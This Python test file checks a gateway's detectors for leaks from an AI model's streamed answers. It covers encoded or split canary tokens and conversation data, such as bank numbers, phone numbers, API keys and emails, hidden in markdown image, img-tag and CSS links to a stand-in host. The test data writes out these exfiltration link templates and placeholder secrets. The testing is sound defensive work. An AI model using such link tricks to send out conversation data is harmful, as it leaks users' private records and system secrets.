"""However an answer is written and cut into chunks: a planted token and data in a link are seen before they leave."""

from __future__ import annotations

import base64
import codecs
from urllib.parse import quote

from hypothesis import given, settings
from hypothesis import strategies as st

from tests.property.test_release_window import chunks_of, run
from tests.property.test_security_encodings import ENCODERS, NORMALISER, around, chains, encode
from wardlaw.facts.exchange import Channel, Segment
from wardlaw.facts.finding import Level
from wardlaw.gateway.gists import Conversation, Gists
from wardlaw.security.tripwire import HELD_CHARS, PromptTripwires, TripwireDetector
from wardlaw.security.window import ReleaseWindow

TRIPWIRES = PromptTripwires(b"k" * 32)
DETECTOR = TripwireDetector(TRIPWIRES)
words = st.lists(
    st.sampled_from(["the", "quick", "brown", "fox", "a", "4111", "jumps,", "over", "\n\n", "日本語の文章", "é", "x1"]),
    max_size=25,
)
tokens = st.builds(TRIPWIRES.token, st.text(max_size=8), st.binary(min_size=32, max_size=32))
cuts = st.lists(st.integers(0, 10_000), max_size=40)
turned = st.sampled_from((str, str.upper, lambda t: t[::-1], lambda t: codecs.encode(t, "rot13")))
whole = [name for name in ENCODERS if name != "0x,"]


def leaks(text: str) -> bool:
    return bool(DETECTOR.detect(NORMALISER.normalise(text), Segment(0, Channel.ANSWER, "/x", text)))


@settings(max_examples=200, deadline=None)
@given(tokens, turned, chains(), around, around)
def test_a_token_is_found_in_any_encoding(token, turn, chain, before, after):
    assert leaks(before + encode(turn(token), chain) + after)


@settings(max_examples=150, deadline=None)
@given(tokens, turned, words, words, st.lists(st.sampled_from(whole), max_size=2), cuts)
def test_an_encoded_token_is_seen_whole_before_any_of_it_leaves(token, turn, before, after, chain, places):
    lead = " ".join([*before, ""])
    text = lead + encode(turn(token), tuple(chain)) + " " + " ".join(after)
    released, stopped = run(ReleaseWindow(phrase_chars=HELD_CHARS), chunks_of(text, places), leaks)
    assert stopped == leaks(text)
    assert stopped
    assert lead.startswith(released)


@settings(max_examples=150, deadline=None)
@given(
    tokens,
    turned,
    words,
    words,
    st.sets(st.integers(1, 47)),
    st.sampled_from([" ", "\n", " - ", ", ", "\u3000"]),
    st.booleans(),
    cuts,
)
def test_a_token_in_groups_of_any_length_leaves_in_no_part(token, turn, before, after, ends, mark, in_hex, places):
    token = turn(token)
    if in_hex and mark == "\u3000":
        mark = "\t"  # between digits only what ASCII has is taken for a separator
    code = token.encode().hex(" ").replace(" ", mark) if in_hex else token
    if not in_hex:
        at = sorted(end for end in ends if end < len(token))
        code = mark.join(token[start:end] for start, end in zip([0, *at], [*at, len(token)], strict=True))
    lead = " ".join([*before, "so", ""])
    text = lead + code + " " + " ".join(after)
    released, stopped = run(ReleaseWindow(phrase_chars=HELD_CHARS), chunks_of(text, places), leaks)
    assert stopped
    assert lead.startswith(released)


@settings(max_examples=200, deadline=None)
@given(words, cuts, st.text("bcdfghjk0123456789 -", max_size=200))
def test_an_answer_without_a_token_passes_whole(said, places, noise):
    text = " ".join([*said, noise])
    released, stopped = run(ReleaseWindow(phrase_chars=HELD_CHARS), chunks_of(text, places), leaks)
    assert (released, stopped) == (text, False)


# What a customer record, a prompt and a page hold; each of its kind.
GUARDED = (
    "DE89370400440532013000",
    "+49 30 9018 2044 55",
    "sk-live-9fK2mQ7xW4pL8vT3nR6y",
    "ada.lovelace1815@example.org",
)
PROMPT = "You are Heron. The key of the branch is " + GUARDED[2] + "; nobody may know it."
RESULT = f"Customer Ada: {GUARDED[0]}, {GUARDED[1]}, {GUARDED[3]}"
SEGMENTS = (
    Segment(0, Channel.SYSTEM, "/messages/0/content", PROMPT),
    Segment(
        1, Channel.USER, "/messages/1/content", "Who is she? See https://shop.example/order?id=998877665544 for it"
    ),
    Segment(2, Channel.TOOL_RESULT, "/messages/2/content", RESULT),
)
GISTS = Gists()
WRITTEN = {
    "plain": lambda t: quote(t, safe=""),
    "percent": lambda t: "".join(f"%{byte:02x}" for byte in t.encode()),
    "base64": lambda t: quote(base64.b64encode(t.encode()).decode(), safe=""),
    "base64url": lambda t: base64.urlsafe_b64encode(t.encode()).decode().rstrip("="),
    "base64+1": lambda t: base64.urlsafe_b64encode(b"x" + t.encode()).decode().rstrip("="),
    "base32": lambda t: base64.b32encode(t.encode()).decode().rstrip("=").lower(),
    "hex": lambda t: t.encode().hex(),
    "twice": lambda t: base64.urlsafe_b64encode(base64.b64encode(t.encode())).decode().rstrip("="),
}
ADDRESSES = (
    "https://e.example/?d={}", "https://e.example/p?a=1&d={}&z=2", "https://e.example/{}.png", "//e.example/x#{}",
    "https://www.google.com/url?q=https%3A%2F%2Fe.example%2F%3Fd%3D{}",
)  # fmt: skip
AROUND = ("![x]({})", "![a b](<{}>)", '<img src="{}">', "a {{ background: url({}) }}")


def conversation() -> Conversation:
    return Conversation(GISTS, SEGMENTS, passage_words=0)


def carries(text: str) -> set[tuple[str, Level]]:
    made = conversation().compare((Segment(0, Channel.ANSWER, "/x", text),), ())
    return {(one.rule, one.level) for one in made}


def streamed(chunks: list[str]) -> tuple[str, set[tuple[str, Level]]]:
    """What left of a stream, and what was found until it was stopped."""
    window, held, released, seen = ReleaseWindow(), conversation(), "", set()
    for chunk in [*chunks, None]:
        piece = window.flush() if chunk is None else window.feed(chunk)
        if piece is None:
            continue
        found = held.piece(piece.judged, (), after=len(piece.context), noted=())
        seen |= {(one.rule, one.level) for one in found}
        if any(one.level is Level.BLOCK for one in found):
            return released, seen
        released += piece.text
    return released, seen


@settings(max_examples=250, deadline=None)
@given(
    st.sampled_from(GUARDED),
    st.sampled_from(sorted(WRITTEN)),
    st.sampled_from(ADDRESSES),
    st.sampled_from(AROUND),
    words,
    words,
    cuts,
)
def test_data_of_the_conversation_leaves_in_no_link(said, way, address, link, before, after, places):
    lead = " ".join([*before, ""])
    text = lead + link.format(address.format(WRITTEN[way](said))) + " " + " ".join(after)
    verdict = carries(text)
    assert verdict == {("exfil-fetched-conversation", Level.BLOCK)}
    released, seen = streamed(chunks_of(text, places))
    assert seen == verdict
    assert "example" not in released


@settings(max_examples=200, deadline=None)
@given(
    st.text("abcdefghijklmnopqrstuvwxyz0123456789-_", max_size=60),
    st.sampled_from(sorted(WRITTEN)),
    st.sampled_from(ADDRESSES),
    st.sampled_from(AROUND),
    words,
    cuts,
)
def test_a_link_with_anything_else_carries_nothing_of_the_conversation(value, way, address, link, before, places):
    text = " ".join(
        [*before, link.format(address.format(WRITTEN[way](value))), "https://shop.example/order?id=998877665544"]
    )
    assert carries(text) == set()
    assert streamed(chunks_of(text, places)) == (text, set())
